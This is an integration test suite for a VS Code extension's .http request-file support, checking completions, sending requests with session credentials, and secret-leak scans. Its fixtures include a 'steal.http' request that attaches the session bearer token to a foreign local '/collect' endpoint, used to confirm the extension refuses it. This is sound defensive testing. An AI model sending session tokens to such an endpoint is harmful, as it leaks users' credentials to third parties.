// `.http` files in a real extension host against the sandbox: the language, the CodeLenses, a
// request sent with the signed-in session (and its answer in the request panel), the origin rule
// against a foreign local server (with a credential expression nothing is sent anywhere; without,
// the request goes there as written with no MX credentials), the problems with their quick fix, and no
// token or client secret in any document, result or file VS Code wrote.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { MxExplorerApi } from '../../src/api';
import type { HttpSendResult } from '../../src/ui/httpRequestSender';
import { DEFAULT_ACCOUNT, startSandbox } from '../sandbox/server';
import type { Sandbox } from '../sandbox/types';
import { withForeignServer } from '../sandbox/foreignServer';
import { activateExtension, isRequestPanel } from './helpers';
import { encodings, scanForCanaries, userDataDir } from './secretScan';

const CHAINS = '/mxs/reference-data/v1/cinema-chains';

describe('.http files', () => {
  let sandbox: Sandbox;
  let api: MxExplorerApi;
  let folder: string;

  async function writeFile(name: string, text: string): Promise<vscode.Uri> {
    const file = path.join(folder, name);
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, text);
    return vscode.Uri.file(file);
  }

  async function open(name: string, text: string): Promise<vscode.TextDocument> {
    const document = await vscode.workspace.openTextDocument(await writeFile(name, text));
    await vscode.window.showTextDocument(document);
    return document;
  }

  async function diagnosticsOf(uri: vscode.Uri, wanted: (d: readonly vscode.Diagnostic[]) => boolean): Promise<readonly vscode.Diagnostic[]> {
    const now = vscode.languages.getDiagnostics(uri);
    if (wanted(now)) return now;
    return new Promise((resolve) => {
      const subscription = vscode.languages.onDidChangeDiagnostics((event) => {
        if (!event.uris.some((u) => u.toString() === uri.toString())) return;
        const found = vscode.languages.getDiagnostics(uri);
        if (wanted(found)) {
          subscription.dispose();
          resolve(found);
        }
      });
    });
  }

  before(async () => {
    api = await activateExtension();
    sandbox = await startSandbox();
    const workspace = vscode.workspace.workspaceFolders?.[0];
    assert.ok(workspace, 'the tests run with a workspace folder open');
    folder = path.join(workspace.uri.fsPath, 'http-tests');
    await api.session.signIn({
      environment: { id: 'custom:sandbox', name: 'Local sandbox', kind: 'custom', authUrl: sandbox.authUrl, apiUrl: sandbox.apiUrl },
      username: DEFAULT_ACCOUNT.username,
      password: DEFAULT_ACCOUNT.password,
      clientId: 'mx-explorer-http-files',
      clientSecret: DEFAULT_ACCOUNT.clientSecret,
    });
  });
  beforeEach(() => sandbox.clearRequests());
  after(async () => {
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    await api.session.signOut({ forgetProfile: true });
    await sandbox.stop();
    fs.rmSync(folder, { recursive: true, force: true });
  });

  it('opens .http and .rest files as language http, with MX: Send and MX: Send All lenses', async () => {
    const rest = await open('a.rest', 'GET /x\n');
    assert.equal(rest.languageId, 'http');
    const document = await open('lenses.http', `GET {{mxApi}}${CHAINS}\n\n###\nGET ${CHAINS}\n`);
    assert.equal(document.languageId, 'http');
    const lenses = await vscode.commands.executeCommand<vscode.CodeLens[]>('vscode.executeCodeLensProvider', document.uri);
    const ours = lenses.filter((l) => l.command?.title.startsWith('MX:'));
    assert.deepEqual(
      ours.map((l) => [l.range.start.line, l.command?.title, l.command?.command]),
      [
        [0, 'MX: Send', 'mx.http.send'],
        [0, 'MX: Send All', 'mx.http.sendAll'],
        [3, 'MX: Send', 'mx.http.send'],
      ],
    );
    // completion: documented paths after {{mxApi}}, variables inside {{
    const complete = await open('complete.http', 'GET {{mxApi}}/mxs\nX-Trace: {{mx');
    const paths = await vscode.commands.executeCommand<vscode.CompletionList>('vscode.executeCompletionItemProvider', complete.uri, new vscode.Position(0, 17));
    assert.ok(paths.items.some((i) => i.label === '/mxs/reference-data/v1/cinema-chains/{cinemaChainId}/sites'), 'the documented paths are offered');
    const variables = await vscode.commands.executeCommand<vscode.CompletionList>('vscode.executeCompletionItemProvider', complete.uri, new vscode.Position(1, 13));
    assert.ok(variables.items.some((i) => i.label === 'mxApi'));
  });

  it('sends a request of a file with the session, variables from the env file, and shows the answer in the panel', async () => {
    await writeFile('env/http-client.env.json', JSON.stringify({ $shared: { chains: CHAINS } }));
    const document = await open(
      'env/chains.http',
      `@trace = from-file\n\n### Cinema chains\n# @name chains\nGET {{mxApi}}{{chains}}\nAuthorization: Bearer {{$auth.token("mx")}}\nMX-Api-Client-Secret: {{$mx.clientSecret}}\nX-Trace: {{trace}}\n`,
    );
    const before = document.getText();
    const panelOpened = new Promise<void>((resolve) => {
      if (vscode.window.tabGroups.all.some((g) => g.tabs.some(isRequestPanel))) resolve();
      const subscription = vscode.window.tabGroups.onDidChangeTabs((e) => {
        if (e.opened.some(isRequestPanel)) {
          subscription.dispose();
          resolve();
        }
      });
    });
    const result = await vscode.commands.executeCommand<HttpSendResult>('mx.http.send', document.uri, 0);
    assert.deepEqual(result && { sent: result.sent, line: result.line, ...(result.sent ? { status: result.status, statusText: result.statusText } : {}) }, { sent: true, line: 4, status: 200, statusText: 'OK' });
    assert.ok(result?.sent && result.durationMs >= 0 && result.bodyBytes > 0 && /^[\w-]+$/.test(result.correlationId ?? ''), 'time, size and correlation id of the answer');
    await panelOpened;
    const sent = sandbox.requests.filter((r) => r.server === 'api');
    assert.equal(sent.length, 1);
    assert.equal(sent[0].path, CHAINS);
    assert.equal(sent[0].headers['x-trace'], 'from-file');
    assert.equal(sent[0].headers['mx-api-client-secret'], DEFAULT_ACCOUNT.clientSecret);
    const token = (sent[0].headers.authorization ?? '').replace(/^Bearer /, '');
    assert.ok(token.length >= 16, 'the session token was sent');
    assert.equal(document.getText(), before, 'the file is unchanged');
    const secrets = [token, DEFAULT_ACCOUNT.clientSecret];
    for (const doc of vscode.workspace.textDocuments) {
      for (const secret of secrets) assert.ok(!doc.getText().includes(secret), `no secret in ${doc.uri.toString()}`);
    }
    assert.ok(!JSON.stringify(result).includes(token));
    // hovers name a variable's value and source, and never show a credential
    const hoverText = async (line: number, character: number): Promise<string> => {
      const hovers = await vscode.commands.executeCommand<vscode.Hover[]>('vscode.executeHoverProvider', document.uri, new vscode.Position(line, character));
      return hovers.flatMap((h) => h.contents.map((c) => (typeof c === 'string' ? c : c.value))).join('\n');
    };
    assert.match(await hoverText(7, 12), /`\{\{trace\}\}` = `from-file`/);
    const tokenHover = await hoverText(5, 25);
    assert.match(tokenHover, /access token: added by MX Explorer at send time/);
    for (const secret of secrets) assert.ok(!tokenHover.includes(secret) && !(await hoverText(6, 30)).includes(secret));
    // the log and everything else VS Code wrote
    const scan = scanForCanaries(userDataDir(), secrets.flatMap(encodings));
    assert.ok(scan.filesScanned > 0, 'the scan read the files VS Code wrote');
    assert.deepEqual(scan.hits, []);
  });

  it('refuses the session credentials for a foreign local server: nothing is sent there or anywhere', async () => {
    await withForeignServer(async ({ port, hits }) => {
      const document = await open('cloned/steal.http', `GET http://127.0.0.1:${port}/collect\nAuthorization: Bearer {{$auth.token("mx")}}\n`);
      const result = await vscode.commands.executeCommand<HttpSendResult>('mx.http.send', document.uri, 0);
      assert.equal(result.sent, false);
      assert.ok(!result.sent && result.kind === 'refused', JSON.stringify(result));
      assert.match(result.sent ? '' : result.message, /refused/);
      assert.equal(hits(), 0, 'the foreign server got nothing');
      assert.deepEqual(sandbox.requests, [], 'nor did the sandbox (no token was even fetched)');
    });
  });

  it('sends a request to a foreign local server as written, with no MX credentials, and shows its answer', async () => {
    const received: http.IncomingHttpHeaders[] = [];
    const foreign = http.createServer((req, res) => {
      received.push(req.headers);
      res.writeHead(200, { 'Content-Type': 'application/json' });
      res.end('{"foreign":true}');
    });
    await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
    try {
      const { port } = foreign.address() as AddressInfo;
      const document = await open('cloned/webhook.http', `POST http://127.0.0.1:${port}/hook?x=1\nX-Trace: {{$guid}}\nContent-Type: application/json\n\n{"n": 1}\n`);
      const result = await vscode.commands.executeCommand<HttpSendResult>('mx.http.send', document.uri, 0);
      assert.deepEqual(result && { sent: result.sent, line: result.line, ...(result.sent ? { status: result.status, statusText: result.statusText } : {}) }, { sent: true, line: 0, status: 200, statusText: 'OK' });
      assert.equal(received.length, 1, 'the foreign server got the request once');
      const [headers] = received;
      assert.match(String(headers['x-trace']), /^[0-9a-f-]{36}$/);
      for (const name of ['authorization', 'mx-api-client-secret', 'proxy-authorization']) assert.equal(headers[name], undefined, name);
      const seen = JSON.stringify(headers);
      assert.ok(!seen.includes(DEFAULT_ACCOUNT.clientSecret), 'no client secret anywhere in what it received');
      assert.deepEqual(sandbox.requests, [], 'the session was not asked for a token');
    } finally {
      await new Promise((resolve) => foreign.close(resolve));
    }
  });

  it('Send All sends the file in order; an unknown variable is a problem and that request is not sent', async () => {
    const document = await open('all.http', `GET ${CHAINS}\n\n###\nGET ${CHAINS}/{{missingChain}}/sites\n\n###\nGET {{mxApi}}${CHAINS}\n`);
    const results = await vscode.commands.executeCommand<HttpSendResult[]>('mx.http.sendAll', document.uri);
    assert.deepEqual(
      results.map((r) => (r.sent ? r.status : r.kind)),
      [200, 'missing', 200],
    );
    assert.equal(sandbox.requests.filter((r) => r.server === 'api').length, 2);
    assert.equal(vscode.window.tabGroups.all.flatMap((g) => g.tabs).filter(isRequestPanel).length, 1, 'every answer shows in the one request panel');
    const problems = await diagnosticsOf(document.uri, (d) => d.length > 0);
    assert.deepEqual(
      problems.map((p) => [p.source, p.code, p.range.start.line]),
      [['MX Explorer', 'unknownVariable', 3]],
    );
  });

  it('Send All stops at a request refused for its origin: what came before was sent, nothing after it', async () => {
    await withForeignServer(async ({ port, hits }) => {
      const document = await open(
        'cloned/stops.http',
        `GET {{mxApi}}${CHAINS}\n\n###\nGET http://127.0.0.1:${port}/collect\nAuthorization: Bearer {{$auth.token("mx")}}\n\n###\nGET {{mxApi}}${CHAINS}?after=refusal\n`,
      );
      const results = await vscode.commands.executeCommand<HttpSendResult[]>('mx.http.sendAll', document.uri);
      assert.deepEqual(results.map((r) => (r.sent ? r.status : r.kind)), [200, 'refused'], 'the third request is not even attempted');
      const refused = results[1];
      assert.match(refused.sent ? '' : refused.message, /^MX: Send All stopped at http-tests\/cloned\/stops\.http:4: Request refused: .* Nothing was sent after it \(2 requests were not sent\)\.$/);
      assert.equal(hits(), 0, 'the foreign server got nothing');
      assert.deepEqual(sandbox.requests.filter((r) => r.server === 'api').map((r) => [r.path, r.query]), [[CHAINS, '']], 'the sandbox saw the first request only');
    });
  });

  it('a literal token is a problem whose quick fix puts in the session expression', async () => {
    const document = await open('literal.http', `GET ${CHAINS}\nAuthorization: Bearer eyJhbGciOiJub25lIn0.e30.literal\n`);
    const problems = await diagnosticsOf(document.uri, (d) => d.some((p) => p.code === 'literalToken'));
    const literal = problems.find((p) => p.code === 'literalToken');
    assert.equal(literal?.source, 'MX Explorer');
    const actions = await vscode.commands.executeCommand<vscode.CodeAction[]>('vscode.executeCodeActionProvider', document.uri, literal!.range);
    const fix = actions.find((a) => a.title.startsWith('Use {{$auth.token("mx")}}'));
    assert.ok(fix?.edit, 'a quick fix is offered');
    assert.ok(await vscode.workspace.applyEdit(fix.edit));
    assert.equal(document.lineAt(1).text, 'Authorization: Bearer {{$auth.token("mx")}}');
    await diagnosticsOf(document.uri, (d) => !d.some((p) => p.code === 'literalToken'));
    const result = await vscode.commands.executeCommand<HttpSendResult>('mx.http.send', document.uri, 0);
    assert.ok(result.sent && result.status === 200, JSON.stringify(result));
  });

  it('saves the request editor\'s request as .http: on {{mxApi}}, implicit credentials, nothing sent', async () => {
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    const draft = { method: 'GET', url: `${CHAINS}/d90b9017-1abd-e711-80c2-000d3ad0511b/sites`, query: [], headers: [], body: '', endpointId: 'get-sites-for-cinema-chain' };
    const written = await vscode.commands.executeCommand<string | undefined>('mx.http.saveAs', draft);
    assert.ok(written, 'a document was written');
    const document = vscode.workspace.textDocuments.find((d) => d.uri.toString() === written);
    assert.ok(document && document.languageId === 'http');
    const text = document.getText();
    assert.match(text, /^GET \{\{mxApi\}\}\/mxs\/reference-data\/v1\/cinema-chains\/d90b9017-1abd-e711-80c2-000d3ad0511b\/sites$/m);
    assert.match(text, /Get Sites for a Cinema Chain/);
    for (const secret of [DEFAULT_ACCOUNT.clientSecret, DEFAULT_ACCOUNT.password, ...sandbox.issuedTokens()]) assert.ok(!text.includes(secret));
    assert.deepEqual(sandbox.requests, []);
    // a caller's argument is checked like a webview message: nothing is written for a non-draft
    assert.equal(await vscode.commands.executeCommand('mx.http.saveAs', { method: 'GET' }), undefined);
    await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
  });

  it('signed out, sending sends nothing and says to sign in', async () => {
    const document = await open('signedOut.http', `GET ${CHAINS}\n`);
    await api.session.signOut();
    try {
      const result = await vscode.commands.executeCommand<HttpSendResult>('mx.http.send', document.uri, 0);
      assert.ok(!result.sent && result.kind === 'signedOut', JSON.stringify(result));
      assert.deepEqual(sandbox.requests, []);
      // Send All stops before the first request, says so once and offers MX: Sign In
      const all = await open('signedOutAll.http', `GET {{mxApi}}${CHAINS}\n\n###\nGET ${CHAINS}\n\n###\nGET ${CHAINS}/{{missing}}\n`);
      const results = await vscode.commands.executeCommand<HttpSendResult[]>('mx.http.sendAll', all.uri);
      assert.equal(results.length, 1, JSON.stringify(results));
      assert.ok(!results[0].sent && results[0].kind === 'signedOut');
      assert.equal(
        results[0].sent ? '' : results[0].message,
        'MX: Send All stopped: you are not signed in to MX, so nothing was sent (3 requests were not sent). Run MX: Sign In, then send again.',
      );
      assert.deepEqual(sandbox.requests, []);
    } finally {
      await api.session.signIn({
        environment: { id: 'custom:sandbox', name: 'Local sandbox', kind: 'custom', authUrl: sandbox.authUrl, apiUrl: sandbox.apiUrl },
        username: DEFAULT_ACCOUNT.username,
        password: DEFAULT_ACCOUNT.password,
        clientId: 'mx-explorer-http-files',
        clientSecret: DEFAULT_ACCOUNT.clientSecret,
      });
    }
  });
});
